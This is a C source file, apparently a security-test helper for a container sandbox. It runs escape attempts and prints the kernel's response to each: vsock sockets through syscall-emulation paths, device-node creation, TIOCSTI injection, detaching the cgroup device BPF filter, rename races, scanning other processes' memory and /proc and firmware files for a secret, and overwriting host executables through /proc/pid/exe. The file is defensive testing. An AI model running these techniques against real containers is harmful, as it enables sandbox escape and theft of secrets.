// What a hostile container tries, one attempt a command; each prints what the kernel answered. See
// cases/security.py.
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void say(const char* what, long result) {
    if (result >= 0)
        printf("%s ok\n", what);
    else
        printf("%s %s\n", what, strerrorname_np(errno));
    fflush(stdout);
}

static int is_pid(const char* name) {
    return name[0] >= '1' && name[0] <= '9';
}

static double now(void) {
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

// ---- sockets ----

#ifdef __x86_64__
static long call_i386(long number, long a, long b, long c) {
    long result;
    __asm__ volatile("int $0x80"
                     : "=a"(result)
                     : "a"(number), "b"(a), "c"(b), "d"(c)
                     : "memory", "r8", "r9", "r10", "r11");
    if (result >= 0) return result;
    errno = (int)-result;
    return -1;
}

// In a child: a kernel without the emulation sends SIGSEGV.
static void try_i386(const char* what, long number, long a, long b, long c) {
    fflush(stdout);
    pid_t child = fork();
    if (child == 0) {
        say(what, call_i386(number, a, b, c));
        _exit(0);
    }
    int status = 0;
    waitpid(child, &status, 0);
    if (WIFSIGNALED(status)) printf("%s signal\n", what);
}
#endif

static int vsock(void) {
    say("socket", socket(40, SOCK_STREAM, 0));
    say("socketpair", socketpair(40, SOCK_STREAM, 0, (int[2]){0, 0}));
    say("socket-high", syscall(SYS_socket, 0x100000028, SOCK_STREAM, 0));
    say("io_uring", syscall(SYS_io_uring_setup, 4, (char[256]){0}));
    say("inet", socket(AF_INET, SOCK_STREAM, 0));
    say("unix", socket(AF_UNIX, SOCK_STREAM, 0));
#ifdef __x86_64__
    say("x32", syscall(SYS_socket | 0x40000000, 40, SOCK_STREAM, 0));
    uint32_t* arguments =
        mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (arguments == MAP_FAILED) return 1;
    arguments[0] = 40;
    arguments[1] = SOCK_STREAM;
    arguments[2] = 0;
    try_i386("i386-socketcall", 102, 1, (long)(uintptr_t)arguments, 0);
    try_i386("i386-socket", 359, 40, SOCK_STREAM, 0);
    try_i386("i386-io_uring", 425, 4, (long)(uintptr_t)(arguments + 16), 0);
    try_i386("i386-getpid", 20, 0, 0, 0);
#endif
    return 0;
}

// ---- devices, terminals ----

static int node(const char* path, const char* kind, unsigned major_number, unsigned minor_number) {
    unlink(path);
    mode_t type = kind[0] == 'b' ? S_IFBLK : S_IFCHR;
    say("mknod", mknod(path, type | 0600, makedev(major_number, minor_number)));
    say("read", open(path, O_RDONLY | O_NONBLOCK));
    say("write", open(path, O_WRONLY | O_NONBLOCK));
    unlink(path);
    return 0;
}

static int terminal(void) {
    char letter = 'x';
    say("tiocsti", ioctl(0, TIOCSTI, &letter));
    say("tiocsctty", ioctl(0, TIOCSCTTY, 1));
    say("tty", open("/dev/tty", O_RDWR));
    return 0;
}

// ---- the device program of our own cgroup ----

static int detach(const char* directory) {
    int cgroup = open(directory, O_RDONLY | O_DIRECTORY);
    if (cgroup < 0) {
        say("open", -1);
        return 0;
    }
    union bpf_attr attribute;
    uint32_t ids[16] = {0};
    memset(&attribute, 0, sizeof attribute);
    attribute.query.target_fd = (uint32_t)cgroup;
    attribute.query.attach_type = BPF_CGROUP_DEVICE;
    attribute.query.prog_ids = (uint64_t)(uintptr_t)ids;
    attribute.query.prog_cnt = 16;
    long queried = syscall(SYS_bpf, BPF_PROG_QUERY, &attribute, sizeof attribute);
    say("query", queried);
    unsigned count = queried == 0 ? attribute.query.prog_cnt : 0;
    printf("programs %u\n", count);
    for (unsigned i = 0; i < count && i < 16; ++i) {
        memset(&attribute, 0, sizeof attribute);
        attribute.prog_id = ids[i];
        long program = syscall(SYS_bpf, BPF_PROG_GET_FD_BY_ID, &attribute, sizeof attribute);
        say("get", program);
        if (program < 0) continue;
        memset(&attribute, 0, sizeof attribute);
        attribute.target_fd = (uint32_t)cgroup;
        attribute.attach_bpf_fd = (uint32_t)program;
        attribute.attach_type = BPF_CGROUP_DEVICE;
        say("detach", syscall(SYS_bpf, BPF_PROG_DETACH, &attribute, sizeof attribute));
    }
    return 0;
}

// ---- renames ----

// Until it is killed: A and B change places.
static int swap(const char* a, const char* b) {
    for (;;) {
        if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) != 0) {
            say("swap", -1);
            return 1;
        }
    }
}

// ---- other processes' memory and descriptors ----

// The bytes that are looked for, never as they are in our own memory.
static uint8_t wanted[256];
static size_t wanted_size;

static int read_wanted(void) {
    int digit;
    uint8_t value = 0;
    int half = 0;
    while ((digit = getchar()) != EOF && wanted_size < sizeof wanted) {
        if (digit == '\n') break;
        value = (uint8_t)(value << 4 | (digit <= '9' ? digit - '0' : (digit | 32) - 'a' + 10));
        if (++half == 2) {
            wanted[wanted_size++] = value ^ 0xa5;
            half = 0;
            value = 0;
        }
    }
    setvbuf(stdin, NULL, _IONBF, 0);
    return wanted_size >= 8;
}

static int holds(const uint8_t* data, size_t size) {
    const uint8_t *at = data, *end = data + size;
    while (at + wanted_size <= end && (at = memchr(at, wanted[0] ^ 0xa5, (size_t)(end - at))) != NULL) {
        size_t same = 0;
        while (same < wanted_size && at + same < end && at[same] == (wanted[same] ^ 0xa5)) ++same;
        if (same == wanted_size) return 1;
        ++at;
    }
    return 0;
}

static uint8_t block[1 << 20];

static int file_holds(const char* path) {
    int fd = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY);
    if (fd < 0) return 0;
    size_t have = 0;
    int found = 0;
    ssize_t got;
    // Bounded: some files never end.
    for (int blocks = 0; blocks < 64 && !found && (got = read(fd, block + have, sizeof block - have)) > 0;
         ++blocks) {
        have += (size_t)got;
        found = holds(block, have);
        if (have == sizeof block) {
            memmove(block, block + have - wanted_size, wanted_size);
            have = wanted_size;
        }
    }
    close(fd);
    return found;
}

static unsigned long bytes_seen;

// What can be read of the memory of `pid`.
static int memory_holds(const char* pid) {
    char path[64], line[512];
    snprintf(path, sizeof path, "/proc/%s/mem", pid);
    int memory = open(path, O_RDONLY);
    snprintf(path, sizeof path, "/proc/%s/maps", pid);
    FILE* maps = fopen(path, "r");
    int found = 0;
    while (memory >= 0 && maps != NULL && !found && fgets(line, sizeof line, maps) != NULL) {
        unsigned long begin, end;
        char mode[8];
        if (sscanf(line, "%lx-%lx %7s", &begin, &end, mode) != 3 || mode[0] != 'r' || strstr(line, "[v"))
            continue;
        for (unsigned long at = begin; at < end && !found; at += sizeof block - 256) {
            size_t size = end - at < sizeof block ? end - at : sizeof block;
            ssize_t got = pread(memory, block, size, (off_t)at);
            if (got <= 0) break;
            bytes_seen += (unsigned long)got;
            found = holds(block, (size_t)got);
        }
    }
    if (memory >= 0) close(memory);
    if (maps != NULL) fclose(maps);
    return found;
}

static void scan_files(const char* directory, int depth) {
    DIR* listing = opendir(directory);
    struct dirent* entry;
    while (listing != NULL && (entry = readdir(listing)) != NULL) {
        char path[4096];
        if (entry->d_name[0] == '.') continue;
        if ((size_t)snprintf(path, sizeof path, "%s/%s", directory, entry->d_name) >= sizeof path) continue;
        if (entry->d_type == DT_DIR && depth > 0) scan_files(path, depth - 1);
        if (entry->d_type == DT_REG && file_holds(path)) printf("found %s\n", path);
    }
    if (listing != NULL) closedir(listing);
}

// Looks for the bytes whose hex digits come on stdin in everything that can be read here.
static int scan(void) {
    if (!read_wanted()) return 1;
    DIR* proc = opendir("/proc");
    struct dirent* entry;
    while ((entry = readdir(proc)) != NULL) {
        char path[512];
        if (!is_pid(entry->d_name)) continue;
        for (int i = 0; i < 2; ++i) {
            snprintf(path, sizeof path, "/proc/%s/%s", entry->d_name, i ? "environ" : "cmdline");
            if (file_holds(path)) printf("found %s\n", path);
        }
        if (atoi(entry->d_name) != getpid() && memory_holds(entry->d_name))
            printf("found /proc/%s/mem\n", entry->d_name);
    }
    closedir(proc);
    const char* const files[] = {"/proc/cmdline",    "/proc/keys", "/proc/kmsg", "/proc/config.gz",
                                 "/proc/bootconfig", "/dev/kmsg",  "/dev/mem"};
    for (size_t i = 0; i < sizeof files / sizeof *files; ++i) {
        if (file_holds(files[i])) printf("found %s\n", files[i]);
    }
    scan_files("/sys/firmware", 6);
    scan_files("/sys/class/dmi/id", 1);
    scan_files("/sys/module/qemu_fw_cfg", 3);
    if (memory_holds("self")) printf("found our own memory\n");
    printf("scanned %lu\n", bytes_seen);
    return 0;
}

static volatile sig_atomic_t stopped;

static void stop(int number) {
    stopped = number;
}

// For some seconds or until SIGTERM: every process that appears, its descriptors, and whether its memory
// holds the bytes on stdin, as long as it is not its program yet.
static int observe(const char* seconds) {
    if (!read_wanted()) return 1;
    double end = now() + atof(seconds);
    unsigned long looks = 0, early = 0;
    char seen[128][96];
    size_t seen_count = 0;
    signal(SIGTERM, stop);
    printf("observing\n");
    fflush(stdout);
    while (!stopped && now() < end) {
        DIR* proc = opendir("/proc");
        struct dirent* entry;
        while ((entry = readdir(proc)) != NULL) {
            char path[600], target[96];
            if (!is_pid(entry->d_name) || atoi(entry->d_name) == getpid() || atoi(entry->d_name) == 1)
                continue;
            ++looks;
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            ssize_t size = readlink(path, target, sizeof target - 1);
            target[size > 0 ? size : 0] = '\0';
            int is_early = size > 0 && strncmp(target, "/bin/", 5) != 0;
            early += is_early ? 1 : 0;
            int writable = is_early ? open(path, O_WRONLY) : -1;
            if (writable >= 0) {
                printf("writable %s\n", target);
                close(writable);
            }
            if (is_early && memory_holds(entry->d_name)) printf("memory of %s\n", target);
            snprintf(path, sizeof path, "/proc/%s/fd", entry->d_name);
            DIR* descriptors = opendir(path);
            struct dirent* descriptor;
            while (descriptors != NULL && (descriptor = readdir(descriptors)) != NULL) {
                ssize_t length =
                    readlinkat(dirfd(descriptors), descriptor->d_name, target, sizeof target - 1);
                if (length <= 0) continue;
                target[length] = '\0';
                char* bracket = strstr(target, ":[");
                if (bracket != NULL && strncmp(target, "anon_inode", 10) != 0) *bracket = '\0';
                size_t i = 0;
                while (i < seen_count && strcmp(seen[i], target) != 0) ++i;
                if (i == seen_count && i < 128) {
                    strcpy(seen[seen_count++], target);
                    printf("descriptor %s\n", target);
                }
            }
            if (descriptors != NULL) closedir(descriptors);
        }
        closedir(proc);
    }
    printf("looks %lu early %lu bytes %lu\n", looks, early, bytes_seen);
    return 0;
}

// Tries to write to the program of every process there is, for some seconds.
static int overwrite(const char* seconds) {
    double end = now() + atof(seconds);
    unsigned long tries = 0;
    printf("overwriting\n");
    fflush(stdout);
    while (now() < end) {
        DIR* proc = opendir("/proc");
        struct dirent* entry;
        while ((entry = readdir(proc)) != NULL) {
            char path[600];
            if (!is_pid(entry->d_name) && strcmp(entry->d_name, "self") != 0) continue;
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            int readable = open(path, O_PATH);
            if (readable < 0) continue;
            char target[256], again[64];
            ssize_t size = readlink(path, target, sizeof target - 1);
            target[size > 0 ? size : 0] = '\0';
            snprintf(again, sizeof again, "/proc/self/fd/%d", readable);
            int writable = open(again, O_WRONLY);
            ++tries;
            if (writable >= 0 && strncmp(target, "/bin/", 5) != 0) printf("opened %s\n", target);
            if (writable >= 0) close(writable);
            close(readable);
        }
        closedir(proc);
    }
    printf("tries %lu\n", tries);
    return 0;
}

static int descriptors(void) {
    for (int fd = 3; fd < 4096; ++fd) {
        char path[64], target[256];
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        ssize_t size = readlink(path, target, sizeof target - 1);
        if (size < 0) continue;
        target[size] = '\0';
        printf("%d %s\n", fd, target);
    }
    printf("done\n");
    return 0;
}

int main(int argc, char** argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    const char* command = argc > 1 ? argv[1] : "";
    if (!strcmp(command, "vsock")) return vsock();
    if (!strcmp(command, "node") && argc == 6)
        return node(argv[2], argv[3], (unsigned)atoi(argv[4]), (unsigned)atoi(argv[5]));
    if (!strcmp(command, "terminal")) return terminal();
    if (!strcmp(command, "detach") && argc == 3) return detach(argv[2]);
    if (!strcmp(command, "swap") && argc == 4) return swap(argv[2], argv[3]);
    if (!strcmp(command, "scan")) return scan();
    if (!strcmp(command, "observe") && argc == 3) return observe(argv[2]);
    if (!strcmp(command, "overwrite") && argc == 3) return overwrite(argv[2]);
    if (!strcmp(command, "descriptors")) return descriptors();
    fprintf(stderr, "escape: unknown command\n");
    return 2;
}
